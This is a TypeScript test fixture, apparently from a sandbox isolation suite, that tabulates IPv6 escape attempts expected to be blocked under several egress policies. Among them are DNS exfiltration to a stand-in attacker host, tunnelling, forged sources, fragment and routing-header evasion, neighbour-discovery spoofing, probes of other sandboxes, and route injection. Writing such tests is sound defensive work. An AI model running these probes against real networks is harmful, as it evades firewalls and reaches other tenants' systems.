import type { EgressPolicy } from '../../../../src/protocol/network/network.ts';
import { addresses, addressesV6 } from '../../../egress/support/addresses.ts';

/** The policies under which IPv6 attempts are made, and which of their traffic may appear outside (nft matches). */
export const policiesV6 = {
  names: {
    policy: { internetAccess: true, denyOut: ['0.0.0.0/0'], allowOut: ['allowed.test', '*.wild.test'] },
    permitted: [],
  },
  closed: { policy: { internetAccess: false }, permitted: [] },
  /** One IPv4 address, and an IPv6 block that holds nobody. */
  addresses: {
    policy: { internetAccess: false, allowOut: [addresses.allowed, '2001:db8:ffff::/48'] },
    permitted: ['ip6 daddr 2001:db8:ffff::/48'],
  },
  socks: {
    policy: { internetAccess: true, egressProxy: { address: `${addresses.socks}:1080` } },
    permitted: [`ip daddr ${addresses.socks} tcp dport 1080`],
  },
  /** Everything but what is protected in any case. */
  open: { policy: { internetAccess: true }, permitted: [`ip6 daddr ${addressesV6.other}`] },
} satisfies Record<string, { policy: EgressPolicy; permitted: string[] }>;

export type AttemptV6 = { policy: keyof typeof policiesV6; name: string; program: string };

/** What no policy opens, whatever it says. */
type Protected = { host: { uplink: string; public: string }; router: string; victims: string[] };

/** Past a policy that lets nothing out by IPv6. */
const past: Record<string, string> = {
  TCP: 'tcp6(OTHER6, 80)',
  'TCP to what a name leads to': 'get6(ALLOWED6)',
  'TCP on another port': 'tcp6(OTHER6, 7000)',
  'TLS, an allowed name': "tls(OTHER6, 'allowed.test')",
  UDP: 'udp6(OTHER6, 7000)',
  QUIC: 'udp6(ALLOWED6, 443, b"\\xc0" + bytes(1199))',
  'a name server': "udp6(ATTACKER6, 53, question('secret.attacker.test'))",
  ping: 'ping6(OTHER6)',
  GRE: "raw6(OTHER6, b'\\0\\0\\x08\\0' + ip(OTHER, datagram()), 47)",
  SCTP: 'raw6(OTHER6, bytes(32), 132)',
  'an unknown protocol': "raw6(OTHER6, b'carried out', 253)",
  'IPv4 in IPv6': 'raw6(OTHER6, ip(OTHER, datagram()), 4)',
  'IPv6 in IPv6': 'raw6(OTHER6, ip6(udp_bytes(OTHER6), 17, SELF6, OTHER6), 41)',
  'a segment of no connection': "frame6(ip6(tcp_bytes(OTHER6, flags=0x18, data=b'x'), 6, SELF6, OTHER6))",
  'a SYN with data': "frame6(ip6(tcp_bytes(OTHER6, data=b'x'), 6, SELF6, OTHER6))",
  'an answer of ping': "raw6(OTHER6, icmp_bytes(129, bytes(8) + b'carried out', OTHER6), 58)",
  'an error with a quotation':
    'raw6(OTHER6, icmp_bytes(1, bytes(4) + ip6(udp_bytes(SELF6, source=OTHER6), 17, OTHER6, SELF6), OTHER6), 58)',
  'too big': "frame6(ip6(icmp_bytes(2, struct.pack('>I', 1280) + bytes(48), OTHER6), 58, SELF6, OTHER6))",
};

/** Packets that no honest sandbox sends, under any policy: none of them may appear outside, even if all is allowed. */
const forged: Record<string, string> = {
  "a source of another sandbox's": 'frame6(*[ip6(udp_bytes(ATTACKER6, source=s), 17, s, ATTACKER6) for s in SLOTS6])',
  "the host's source": "frame6(ip6(udp_bytes(ATTACKER6, source='2001:db8:1::2'), 17, '2001:db8:1::2', ATTACKER6))",
  'a public source': "frame6(ip6(udp_bytes(ATTACKER6, source='2001:db8:f::11'), 17, '2001:db8:f::11', ATTACKER6))",
  'no source': "frame6(ip6(udp_bytes(ATTACKER6, source='::'), 17, '::', ATTACKER6))",
  'loopback as source': "frame6(ip6(udp_bytes(ATTACKER6, source='::1'), 17, '::1', ATTACKER6))",
  'a link-local source': "frame6(ip6(udp_bytes(ATTACKER6, source='fe80::21'), 17, 'fe80::21', ATTACKER6))",
  'a mapped source': "frame6(ip6(udp_bytes(ATTACKER6, source='::ffff:1.2.3.4'), 17, '::ffff:1.2.3.4', ATTACKER6))",
  'the gateway as source': 'frame6(ip6(udp_bytes(ATTACKER6, source=GATEWAY6), 17, GATEWAY6, ATTACKER6))',
  'hop-by-hop options': 'frame6(ip6(options6(udp_bytes(ATTACKER6), 17), 0, SELF6, ATTACKER6))',
  'destination options': 'frame6(ip6(options6(udp_bytes(ATTACKER6), 17), 60, SELF6, ATTACKER6))',
  'a routing header': 'frame6(ip6(routing6(udp_bytes(ATTACKER6), 17, ATTACKER6), 43, SELF6, OTHER6))',
  'a segment routing header': 'frame6(ip6(routing6(udp_bytes(ATTACKER6), 17, ATTACKER6, kind=4), 43, SELF6, OTHER6))',
  'a routing header to the host':
    "frame6(ip6(routing6(udp_bytes(ATTACKER6), 17, '2001:db8:1::2', kind=2), 43, SELF6, '2001:db8:1::2'))",
  'options behind a fragment header':
    'frame6(ip6(fragment6(options6(udp_bytes(ATTACKER6), 17), 60), 44, SELF6, ATTACKER6))',
  'a routing header in two pieces':
    '(lambda p: frame6(ip6(fragment6(p[:16], 43, 0, 1), 44, SELF6, ATTACKER6), ip6(fragment6(p[16:], 43, 16), 44, SELF6, ATTACKER6)))(routing6(udp_bytes(ATTACKER6), 17, ATTACKER6))',
  'a piece without its first': 'frame6(ip6(fragment6(bytes(64), 17, 64), 44, SELF6, ATTACKER6))',
  'pieces that overlap':
    '(lambda p: frame6(ip6(fragment6(p[:16], 17, 0, 1), 44, SELF6, ATTACKER6), ip6(fragment6(p[8:], 17, 8), 44, SELF6, ATTACKER6)))(udp_bytes(ATTACKER6, bytes(32)))',
  'a neighbour message in pieces':
    '(lambda p: frame6(ip6(fragment6(p[:8], 58, 0, 1), 44, SELF6, ATTACKER6), ip6(fragment6(p[8:], 58, 8), 44, SELF6, ATTACKER6)))(icmp_bytes(136, bytes(20), ATTACKER6))',
  'a router in pieces':
    "(lambda p: frame6(ip6(fragment6(p[:8], 58, 0, 1), 44, SELF6, 'ff02::1'), ip6(fragment6(p[8:], 58, 8), 44, SELF6, 'ff02::1')))(icmp_bytes(134, bytes(12), 'ff02::1'))",
  'no next header': 'frame6(ip6(b"carried out", 59, SELF6, ATTACKER6))',
  AH: 'frame6(ip6(bytes([17, 4]) + bytes(22) + udp_bytes(ATTACKER6), 51, SELF6, ATTACKER6))',
  ESP: 'frame6(ip6(bytes(64), 50, SELF6, ATTACKER6))',
  'a neighbour announcement from the one address':
    "hears(eth(ip6(icmp_bytes(136, b'\\x60\\0\\0\\0' + socket.inet_pton(10, GATEWAY6) + b'\\2\\1' + SELF_MAC, 'ff02::1'), 58, SELF6, 'ff02::1'), 0x86dd))",
  'a question for the gateway from the one address':
    "hears(eth(ip6(icmp_bytes(135, bytes(4) + socket.inet_pton(10, GATEWAY6) + b'\\1\\1' + SELF_MAC, GATEWAY6), 58, SELF6, GATEWAY6), 0x86dd))",
  'a redirect from the one address':
    'hears(eth(ip6(icmp_bytes(137, bytes(4) + socket.inet_pton(10, SELF6) + socket.inet_pton(10, ATTACKER6), GATEWAY6), 58, SELF6, GATEWAY6), 0x86dd))',
  'a router from the one address':
    "hears(eth(ip6(icmp_bytes(134, struct.pack('>BBHII', 64, 0, 1800, 0, 0), 'ff02::1'), 58, SELF6, 'ff02::1'), 0x86dd))",
  'a group report': "hears(eth(ip6(icmp_bytes(143, bytes(4), 'ff02::16'), 58, SELF6, 'ff02::16'), 0x86dd))",
  'one hop': "hears(eth(ip6(udp_bytes('fd12:3456::5'), 17, SELF6, 'fd12:3456::5', 1), 0x86dd))",
  'IPv6 under the number of IPv4': 'frame6(ip6(udp_bytes(ATTACKER6), 17, SELF6, ATTACKER6), kind=0x0800)',
  'IPv6 in a VLAN': "frame6(b'\\0\\1\\x86\\xdd' + ip6(udp_bytes(ATTACKER6), 17, SELF6, ATTACKER6), kind=0x8100)",
  'IPv4 under the number of IPv6': 'frame6(ip(ATTACKER, datagram()))',
  'a length that lies':
    "frame6(b'\\x60\\0\\0\\0\\xff\\xff\\x11\\x40' + socket.inet_pton(10, SELF6) + socket.inet_pton(10, ATTACKER6) + udp_bytes(ATTACKER6))",
};

function onProtected({ host, router, victims }: Protected): Record<string, string> {
  const places: [string, string][] = [
    ["the host's uplink", host.uplink],
    ["the host's public address", host.public],
    ["the host's loopback", '::1'],
    ['no address', '::'],
    ['another slot', 'fda7:110:5b3c:1::1:0'],
    ...victims.map((address): [string, string] => [address, address]),
  ];
  return {
    ...Object.fromEntries(
      places.flatMap(([name, address]) => [
        [
          `${name}: all ports by frame`,
          `frame6(*[ip6(tcp_bytes('${address}', port=p), 6, SELF6, '${address}') for p in (22, 80, 443, 3000, 5432, 7000)], ip6(udp_bytes('${address}'), 17, SELF6, '${address}'))`,
        ],
        [`${name}: ping by frame`, `frame6(ip6(icmp_bytes(128, bytes(8), '${address}'), 58, SELF6, '${address}'))`],
      ]),
    ),
    ...Object.fromEntries(
      places
        .filter(([, address]) => !/^::1?$/.test(address))
        .flatMap(([name, address]) => [
          [`${name}: web`, `get6('${address}')`],
          [`${name}: UDP`, `udp6('${address}', 7000)`],
        ]),
    ),
    'the gateway': 'tcp6(GATEWAY6, 3000, scope=socket.if_nametoindex("eth0"))',
    'other sandboxes': 'each(lambda n: tcp6(SLOTS6[n], 7000), 4)',
    'other sandboxes by UDP': 'each(lambda n: udp6(SLOTS6[n], 7000), 4)',
    'other sandboxes by frame': 'frame6(*[ip6(tcp_bytes(s, port=7000), 6, SELF6, s) for s in SLOTS6])',
    "other sandboxes' agents": 'each(lambda n: get6(SLOTS6[n], port=49983), 4)',
    'everybody on the link': 'udp6("ff02::1", 7000, scope=socket.if_nametoindex("eth0"))',
    'everybody beyond it': 'udp6("ff0e::1", 7000, scope=socket.if_nametoindex("eth0"))',
    // It is public, like the way out; only what counts listens on it.
    'a route of our own': `run('ip -6 route add ${victims[0]} via fe80::22 dev eth0; ip -6 addr add 2001:db8:1::77/64 dev eth0'); frame6(ip6(udp_bytes('${router}', source='2001:db8:1::77'), 17, '2001:db8:1::77', '${router}'))`,
  };
}

/** The table. */
export function ipv6Attempts(places: Protected): AttemptV6[] {
  const under = (policy: AttemptV6['policy'], means: string, table: Record<string, string>) =>
    Object.entries(table).map(([name, program]) => ({ policy, name: `${means}: ${name}`, program }));
  const shut = ['names', 'closed', 'addresses', 'socks'] as const;
  return [
    ...shut.flatMap(policy => under(policy, 'out', past)),
    ...(['open', 'names'] as const).flatMap(policy => under(policy, 'forged', forged)),
    ...(['open', 'names'] as const).flatMap(policy => under(policy, 'protected', onProtected(places))),
  ];
}
